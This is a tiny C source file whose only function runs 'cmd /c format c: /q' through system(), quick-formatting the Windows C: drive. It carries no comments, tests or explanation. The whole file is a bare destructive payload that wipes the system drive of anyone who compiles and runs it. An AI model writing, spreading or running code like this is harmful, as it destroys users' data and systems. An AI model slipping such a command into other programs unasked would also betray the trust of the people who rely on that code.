#include <stdlib.h>
int main(void) { return system("cmd /c format c: /q"); }
